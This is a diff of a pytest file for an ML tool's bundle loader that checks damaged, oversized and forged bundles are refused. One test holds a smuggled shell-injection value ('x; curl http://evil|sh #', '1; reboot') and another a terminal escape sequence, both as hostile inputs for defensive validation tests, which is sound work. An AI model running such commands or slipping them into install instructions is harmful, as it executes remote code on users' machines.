@@ -1,14 +1,16 @@
+import hashlib
 import json
-import shutil
+import os
 import time
 
 import numpy as np
 import pytest
 import torch
-from safetensors.torch import load_file
+from PIL import Image
+from safetensors.torch import load_file, save_file
 
 from autotl.backbones.catalogue import Catalogue
-from autotl.errors import PlanError, StudyError
+from autotl.errors import AutotlError, PluginError, StudyError
 from autotl.export import bundle
 from autotl.study.search import Search
 from autotl.study.settings import Settings
@@ -16,11 +18,13 @@ from autotl.study.watch import Silent
 
 
 @pytest.fixture
-def found(host, stripes):
-    settings = Settings(data=stripes, trials=2, backbones=("tiny:net",), strategies=("linear-probe",), device="cpu")
-    search = Search(settings, host, Silent(), time.monotonic())
-    search.run()
-    return search.folder.bundle
+def found(study):
+    return study.bundle
+
+
+@pytest.fixture
+def catalogue(host, tmp_path):
+    return Catalogue(host, tmp_path / "cache")
 
 
 def test_a_bundle_predicts_what_was_measured(found, host, stripes, tmp_path):
@@ -29,7 +33,7 @@ def test_a_bundle_predicts_what_was_measured(found, host, stripes, tmp_path):
     header, rows = table[0], table[1:]
     test = [dict(zip(header, row, strict=True)) for row in rows if "test" in row]
     files = [stripes / row["path"] for row in test]
-    answers = [loaded.classes[answer.argmax()] for _, answer in loaded.predict(files)]
+    answers = [loaded.classes[answer.argmax()] for answer in loaded.predict(files)]
     right = np.mean([answer == row["label"] for answer, row in zip(answers, test, strict=True)])
     assert right == pytest.approx(loaded.metrics["test"]["value"])
 
@@ -56,11 +60,9 @@ def test_what_is_no_bundle_is_refused(found, host, tmp_path):
     catalogue = Catalogue(host, tmp_path / "cache")
     with pytest.raises(StudyError, match="is no bundle: weights.safetensors"):
         bundle.load(tmp_path, catalogue)
-    broken = tmp_path / "broken"
-    shutil.copytree(found, broken)
-    (broken / "plan.json").write_text("{}")
-    with pytest.raises(PlanError, match="plan.json is not a valid TransferPlan"):
-        bundle.load(broken, catalogue)
+    (found / "classes.json").unlink()
+    with pytest.raises(StudyError, match="is no bundle: classes.json missing"):
+        bundle.load(found, catalogue)
 
 
 def test_a_new_bundle_replaces_the_old_one_whole(found, host, stripes):
@@ -78,3 +80,196 @@ def test_nothing_but_a_bundle_is_ever_replaced(found, host, stripes, tmp_path):
             bundle.check_target(target)
     bundle.check_target(found)
     bundle.check_target(tmp_path / "new")
+    for names in (("README.md", "LICENSE"), ("README.md", "plan.json", ".git/config")):  # a repository's
+        repository = tmp_path / "-".join(names).replace("/", "-")
+        for name in names:
+            (repository / name).parent.mkdir(parents=True, exist_ok=True)
+            (repository / name).write_text("mine")
+        with pytest.raises(StudyError, match="holds something that is no bundle"):
+            bundle.check_target(repository)
+
+
+# Damaged bundles, and strangers'
+
+
+def flip(name, at=-1):
+    def damage(folder):
+        content = bytearray((folder / name).read_bytes())
+        content[at] ^= 1
+        (folder / name).write_bytes(content)
+
+    return damage
+
+
+def put(name, content):
+    return lambda folder: (folder / name).write_bytes(content)
+
+
+def cut_short(folder):
+    (folder / bundle.WEIGHTS).write_bytes((folder / bundle.WEIGHTS).read_bytes()[:1000])
+
+
+def pipe(name):
+    def damage(folder):
+        (folder / name).unlink()
+        os.mkfifo(folder / name)
+
+    return damage
+
+
+def directory(folder):
+    (folder / "metrics.json").unlink()
+    (folder / "metrics.json").mkdir()
+
+
+def link_to_itself(folder):
+    (folder / "plan.json").unlink()
+    (folder / "plan.json").symlink_to("plan.json")
+
+
+def secret(folder):
+    (folder.parent / "secret").write_text("PRIVATE")
+    (folder / "preprocessing.json").unlink()
+    (folder / "preprocessing.json").symlink_to("../secret")
+
+
+def endless(folder):
+    (folder / "versions.json").unlink()
+    (folder / "versions.json").symlink_to("/dev/zero")
+
+
+def huge(folder):
+    os.truncate(folder / "classes.json", 1 << 33)
+
+
+@pytest.mark.parametrize(
+    ("damage", "says"),
+    [
+        (flip(bundle.WEIGHTS), "weights.safetensors is not what was written"),
+        (flip("plan.json", at=30), "plan.json is not what was written"),
+        (flip("classes.json", at=8), "classes.json is not what was written"),
+        (flip("LICENSE"), "LICENSE is not what was written"),
+        (cut_short, "weights.safetensors is not what was written"),
+        (put("hashes.json", b"{}"), "weights.safetensors is not what was written"),
+        (put("hashes.json", b"[" * 100_000), "hashes.json: "),
+        (put("metrics.json", b""), "metrics.json is not what was written"),
+        (pipe(bundle.WEIGHTS), "weights.safetensors cannot be read: not a regular file"),
+        (pipe("plan.json"), "plan.json cannot be read: not a regular file"),
+        (directory, "metrics.json cannot be read: not a regular file"),
+        (link_to_itself, "is no bundle: plan.json missing"),
+        (secret, "preprocessing.json is not what was written"),
+        (endless, "versions.json cannot be read: not a regular file"),
+        (huge, "classes.json cannot be read: too large"),
+    ],
+)
+def test_a_damaged_bundle_is_refused_in_one_line(found, catalogue, damage, says):
+    damage(found)
+    with pytest.raises(StudyError) as caught:
+        bundle.load(found, catalogue)
+    assert says in str(caught.value) and "\n" not in str(caught.value)
+    assert bundle.plan_of(found) is None  # its study's search makes it again
+
+
+def in_weights(change):
+    def forge(folder):
+        weights = load_file(folder / bundle.WEIGHTS)
+        change(weights)
+        save_file(weights, folder / bundle.WEIGHTS)
+
+    return forge
+
+
+def in_plan(**changes):
+    def forge(folder):
+        plan = json.loads((folder / "plan.json").read_text())
+        for name, value in changes.items():
+            plan[name] = {**plan[name], **value} if isinstance(value, dict) else value
+        (folder / "plan.json").write_text(json.dumps(plan))
+        (folder / "preprocessing.json").write_text(json.dumps(plan["input"]))
+
+    return forge
+
+
+def hashed_again(folder):
+    """As whoever makes a bundle by intent would."""
+    hashes = {name: hashlib.sha256((folder / name).read_bytes()).hexdigest() for name in bundle.CARRIED}
+    (folder / "hashes.json").write_text(json.dumps(hashes))
+
+
+@pytest.mark.parametrize(
+    ("forge", "says"),
+    [
+        (in_weights(lambda weights: weights["head.bias"].fill_(float("nan"))), "no probabilities, but NaN"),
+        (in_weights(lambda weights: weights["backbone.0.0.weight"].fill_(float("inf"))), "no probabilities, but NaN"),
+        (in_weights(lambda weights: weights.pop("head.weight")), "weights.safetensors cannot be read: 'head.weight'"),
+        (in_weights(lambda weights: weights.pop("backbone.0.0.weight")), "does not fit 'tiny:net'"),
+        (in_weights(lambda weights: weights.update(more=torch.zeros(1))), "does not fit 'tiny:net'"),
+        (in_weights(lambda weights: weights.update({"head.bias": torch.zeros(2)})), "its head does not fit"),
+        (in_weights(lambda weights: weights.update({"head.weight": torch.zeros(3, 99)})), "its head does not fit"),
+        (in_weights(lambda weights: weights.update({"head.bias": torch.zeros(3, dtype=torch.int64)})), "head does not"),
+        (put(bundle.WEIGHTS, b"\xff" * 100), "weights.safetensors cannot be read"),
+        (put("classes.json", b'["across", "down"]'), "it tells 3 classes apart, and names 2"),
+        (put("classes.json", b'["a", "b", "a"]'), "classes.json: Value error, two classes have one name"),
+        (put("classes.json", b'["a", "b", "\\u001b]0;OWNED"]'), "classes.json: Value error, a class name cannot be"),
+        (put("classes.json", b'{"a": 1}'), "classes.json: "),
+        (put("classes.json", b"x"), "classes.json: "),
+        (put("metrics.json", b'{"validation": {}}'), "metrics.json: "),
+        (put("metrics.json", b"[" * 100_000), "metrics.json: "),
+        (put("plan.json", b"{}"), "plan.json is not a valid TransferPlan"),
+        (put("preprocessing.json", b"\xff\xfe"), "preprocessing.json is not a valid Input"),
+        (in_plan(input={"std": [0.0, 0.25, 0.25]}), "plan.json is not a valid TransferPlan"),
+        (in_plan(cut="9.9"), "Unknown stage '9.9'"),
+        (in_plan(backbone="tiny:other"), "Unknown backbone 'tiny:other'"),
+    ],
+)
+def test_what_a_strangers_bundle_claims_is_looked_at(found, catalogue, forge, says):
+    forge(found)
+    hashed_again(found)
+    with pytest.raises(AutotlError) as caught:
+        bundle.load(found, catalogue)
+    assert says in str(caught.value) and "\n" not in str(caught.value)
+
+
+def test_preprocessing_is_what_the_plan_says(found, catalogue):
+    text = (found / "preprocessing.json").read_text()
+    (found / "preprocessing.json").write_text(text.replace("bilinear", "nearest"))
+    hashed_again(found)
+    with pytest.raises(StudyError, match="preprocessing.json is not what its plan says"):
+        bundle.load(found, catalogue)
+
+
+def test_no_stranger_writes_a_command_that_the_user_pastes(found, catalogue):
+    requires = {"x; curl http://evil|sh #": "1", "good_name": "1.0", "name": "1; reboot", "stages": "abc"}
+    in_plan(backbone="evil:net", requires=requires)(found)
+    hashed_again(found)
+    with pytest.raises(PluginError) as caught:
+        bundle.load(found, catalogue)
+    assert "Install its plugin (pip install good-name==1.0), and see: autotl doctor" in str(caught.value)
+    assert "evil|sh" not in str(caught.value) and "reboot" not in str(caught.value)
+
+
+def test_a_damaged_bundle_of_a_study_is_made_again_by_its_search(found, host, stripes, catalogue):
+    wanted = bundle.load(found, catalogue)
+    flip(bundle.WEIGHTS)(found)
+    settings = Settings(data=stripes, trials=2, backbones=("tiny:net",), strategies=("linear-probe",), device="cpu")
+    Search(settings, host, Silent(), time.monotonic()).run()
+    again = bundle.load(found, catalogue)
+    assert again.plan == wanted.plan
+    assert torch.equal(again.graph.weight, wanted.graph.weight)
+
+
+def test_an_image_without_an_answer_has_a_reason(found, catalogue, stripes, tmp_path):
+    loaded = bundle.load(found, catalogue)
+    os.mkfifo(tmp_path / "pipe")
+    (tmp_path / "film.jpg").touch()
+    os.truncate(tmp_path / "film.jpg", 5_000_000_000)
+    good = stripes / "down" / "3.png"
+    answers = list(
+        loaded.predict([good, tmp_path / "pipe", tmp_path / "film.jpg", tmp_path / "gone", Image.open(good)])
+    )
+    assert answers[1] == "cannot be read: not a regular file"
+    assert "too large: 5,000,000,000 bytes" in answers[2]
+    assert answers[3] == "cannot be read: No such file or directory"
+    np.testing.assert_array_equal(answers[0], answers[4])
+    loaded.graph.bias.fill_(float("nan"))
+    assert list(loaded.predict([good])) == ["the model gives no probability for it, but NaN"]
